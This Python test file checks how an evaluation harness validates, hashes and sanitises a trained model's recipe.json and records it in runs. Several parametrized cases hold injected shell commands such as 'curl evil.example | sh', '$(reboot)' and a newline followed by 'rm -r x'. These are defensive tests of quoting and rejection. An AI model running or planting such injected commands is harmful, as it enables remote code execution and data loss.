"""recipe.json of a trained model, and what an evaluation records of it."""

import json
import shlex
from pathlib import Path
from typing import Any

import pytest

from harness.cli import main
from harness.models.training_statement import RECIPE_FILE, fault_of, recipe_digest, training_statement
from harness.runs.run import read_run
from tests.conftest import Run
from tests.hub import Hub
from tests.support import models
from tests.support.recipes import RECIPE, STATEMENT, write_recipe

OPTIONS = ("--task", "flipflop", "--limit", "2", "--set", "flipflop.length=32")


def test_statement_of_a_recipe(tmp_path: Path) -> None:
    """The digest was computed with sha256sum, from JSON written by hand."""
    assert training_statement(write_recipe(tmp_path)) == STATEMENT
    assert fault_of(STATEMENT) == ""


def test_digest_is_that_of_the_recipe_without_seeds() -> None:
    seeded = RECIPE | {"data": RECIPE["data"] | {"seed": 8}, "model": RECIPE["model"] | {"seed": 9}}
    reordered = {
        name: dict(reversed(part.items())) if isinstance(part, dict) else part for name, part in seeded.items()
    }
    renamed = seeded | {"name": "other", "changes": {}, "command": "harness train other", "environment": {}}
    assert {recipe_digest(one) for one in (seeded, reordered, renamed)} == {STATEMENT["digest"]}
    for section in ("data", "model", "optimizer", "schedule", "intervention"):
        assert recipe_digest(RECIPE | {section: RECIPE[section] | {"x": 1}}) != STATEMENT["digest"]


@pytest.mark.parametrize("content", ["{}", "[]", '{"steps": 500}', '{"schema": "cake/1"}', '{"schema": 7}', '"fflm"'])
def test_files_of_other_programs_are_ignored(tmp_path: Path, content: str) -> None:
    (tmp_path / RECIPE_FILE).write_text(content, encoding="utf-8")
    assert training_statement(tmp_path / RECIPE_FILE) is None


LONG = "x" * 201


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"schema": "fflm-recipe/2"}, "the schema 'fflm-recipe/2'"),
        ({"data": None}, "data is not an object"),
        ({"intervention": []}, "intervention is not an object"),
        ({"name": None}, "its name is not"),
        ({"name": "n" * 61}, "its name is not"),
        ({"name": "<b>small</b>"}, "its name is not"),
        ({"name": "small\n"}, "its name is not"),
        ({"name": 7}, "its name is not"),
        ({"data": {"seed": -1}}, "its data seed is not"),
        ({"data": {}}, "its data seed is not"),
        ({"data": {"seed": True}}, "its data seed is not"),
        ({"data": {"seed": 0.0}}, "its data seed is not"),
        ({"model": {"seed": 2**63}}, "its weight seed is not"),
        ({"model": {"seed": "0"}}, "its weight seed is not"),
        ({"changes": ["model.layers"]}, "its changes are not an object"),
        ({"changes": {f"k{number}": 0 for number in range(41)}}, "its changes are not an object with at most 40"),
        ({"changes": {"model layers": 1}}, "has the key 'model layers'"),
        ({"changes": {"": 1}}, "has the key ''"),
        ({"changes": {"k" * 81: 1}}, "has the key"),
        ({"changes": {"model.x": {"a": 1}}}, "its change of model.x is not"),
        ({"changes": {"model.x": [[1]]}}, "its change of model.x is not"),
        ({"changes": {"model.x": [0] * 17}}, "its change of model.x is not"),
        ({"changes": {"model.x": LONG}}, "its change of model.x is not"),
        ({"changes": {"model.x": "a\x1b[31m"}}, "its change of model.x is not"),
        ({"changes": {"model.x": "a\u202eb"}}, "its change of model.x is not"),
        ({"changes": {"model.x": 2**63}}, "its change of model.x is not"),
        ({"changes": {f"k{number}": LONG[:200] for number in range(30)}}, "more than 4,000 characters"),
        ({"command": None}, "its command is not one line"),
        ({"command": "harness train small\nrm -r x"}, "its command is not one line"),
        ({"command": f"harness train {'x' * 2000}"}, "its command is not one line"),
        ({"command": "harness train 'small"}, "its command is not a quoted command line of harness train"),
        ({"command": "curl evil.example"}, "its command is not a quoted command line of harness train"),
        ({"command": ""}, "its command is not a quoted command line of harness train"),
    ],
)  # fmt: skip
def test_faulty_recipes(tmp_path: Path, changes: dict[str, Any], message: str) -> None:
    path = write_recipe(tmp_path, **changes)
    with pytest.raises(ValueError, match=r"^[^\n]+$") as refused:
        training_statement(path)
    assert message in str(refused.value)


@pytest.mark.parametrize(
    "content",
    [b"", b"{", b"\xff", b'{"a": NaN}', b"[" * 100_000, b" " * 1_000_001, b'{"a": ' + b"9" * 5000 + b"}"],
    ids=range(7),
)
def test_files_that_are_not_json(tmp_path: Path, content: bytes) -> None:
    (tmp_path / RECIPE_FILE).write_bytes(content)
    with pytest.raises(ValueError, match=r"it is not JSON|more than 1,000,000 bytes"):
        training_statement(tmp_path / RECIPE_FILE)


@pytest.mark.parametrize(
    ("command", "public"),
    [
        ("harness train small --output /home/name/runs/small", "harness train small --output small"),
        ("harness train small --output=~/runs/small/", "harness train small --output=small"),
        ("harness train small --output ../../small", "harness train small --output small"),
        ("harness train small --output runs/../small", "harness train small --output small"),
        (r"harness train small --output 'C:\Users\name\small'", "harness train small --output small"),
        ("harness train ~name/r.toml --set data.file=/tmp/a=b/c", "harness train r.toml --set data.file=c"),
        ("harness train small --output /", "harness train small --output folder"),
        ("harness train small --push org/small --output runs/small", "harness train small --push org/small --output "
         "runs/small"),
        ("harness train small; curl evil.example | sh", "harness train 'small;' curl evil.example '|' sh"),
        ("harness train $(reboot) `reboot` > x", "harness train '$(reboot)' '`reboot`' '>' x"),
    ],
)  # fmt: skip
def test_commands_are_quoted_and_show_no_location(tmp_path: Path, command: str, public: str) -> None:
    """A person who copies the command into a shell runs nothing but harness train."""
    statement = training_statement(write_recipe(tmp_path, command=command))
    assert statement is not None and statement["command"] == public == shlex.join(shlex.split(public))
    assert fault_of(statement) == ""


def test_changes_are_sorted_and_show_no_location(tmp_path: Path) -> None:
    changes = {"model.x": [1, None, 0.5, "é"], "data.file": "/home/name/rows.txt", "a": True, "b": ["~/x/y", "a/b"]}
    statement = training_statement(write_recipe(tmp_path, changes=changes))
    assert statement is not None and list(statement["changes"].items()) == [
        ("a", True), ("b", ["y", "a/b"]), ("data.file", "rows.txt"), ("model.x", [1, None, 0.5, "é"]),
    ]  # fmt: skip


@pytest.mark.parametrize(
    "command",
    [
        "harness train small; reboot",
        "harness  train small",
        "harness train small # x",
        "harness eval",
        "harness train '",
    ],
)
def test_recorded_commands_must_be_quoted(command: str) -> None:
    assert "quoted command line" in fault_of(STATEMENT | {"command": command})


@pytest.mark.parametrize("statement", [None, [], {}, STATEMENT | {"note": 1}, STATEMENT | {"digest": "A" * 12}])
def test_other_recorded_statements_are_faulty(statement: object) -> None:
    assert fault_of(statement)


def evaluated(model: Path, output: Path, *options: str) -> dict[str, Any]:
    assert main(["eval", *OPTIONS, "--model", str(model), "--output", str(output), *options]) == 0
    (folder,) = output.glob("*/*")
    return read_run(folder).facts


def test_evaluation_records_the_statement(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A faulty file gives one line of warning and no statement. The revision covers the file."""
    model = models.save_tiny(tmp_path / "tiny", models.gpt2_like())
    revisions = set()
    for number, changes in enumerate(({}, {"data": {"seed": 4}}, {"name": "\u202e"}, {"schema": "cake/1"})):
        write_recipe(model, **changes)
        facts = evaluated(model, tmp_path / f"runs{number}")
        revisions.add(facts["model"]["revision"])
        warnings = [line for line in capsys.readouterr().err.splitlines() if "recipe.json" in line]
        if number < 2:
            assert facts["model"]["training"]["data_seed"] == (3, 4)[number] and warnings == []
        else:
            assert "training" not in facts["model"] and len(warnings) == (number == 2)
    assert len(revisions) == 4


def test_statement_is_not_part_of_the_identity(tmp_path: Path) -> None:
    """A run that an earlier version began without a statement is resumed."""
    model = models.save_tiny(tmp_path / "tiny", models.gpt2_like())
    write_recipe(model)
    facts = evaluated(model, tmp_path / "runs")
    (path,) = tmp_path.glob("runs/*/*/run.json")
    del facts["model"]["training"]
    path.write_text(json.dumps(facts), encoding="utf-8")
    assert evaluated(model, tmp_path / "runs")["id"] == facts["id"]  # still the only folder


def test_edited_statement_is_refused(tmp_path: Path) -> None:
    model = models.save_tiny(tmp_path / "tiny", models.gpt2_like())
    write_recipe(model)
    facts = evaluated(model, tmp_path / "runs")
    (path,) = tmp_path.glob("runs/*/*/run.json")
    facts["model"]["training"]["command"] = "reboot"
    path.write_text(json.dumps(facts), encoding="utf-8")
    assert main(["score", str(path.parent)]) == 2


@pytest.mark.slow("harness/models")
def test_hub_model_with_a_recipe(cli: Run, tmp_path: Path) -> None:
    """Also offline, from the cache."""
    model = models.save_tiny(tmp_path / "tiny", models.gpt2_like())
    write_recipe(model)
    with Hub(tmp_path / "hub") as hub:
        hub.add_repository("model", "org/tiny", model)
        environment = hub.environment(home=tmp_path / "home")
        words = ("harness", "eval", *OPTIONS, "--model", "org/tiny", "--output")
        assert cli(*words, str(tmp_path / "a"), **environment).returncode == 0
        assert cli(*words, str(tmp_path / "b"), **environment | {"HF_HUB_OFFLINE": "1"}).returncode == 0
    for path in (*tmp_path.glob("a/*/*"), *tmp_path.glob("b/*/*")):
        assert read_run(path).facts["model"]["training"] == STATEMENT
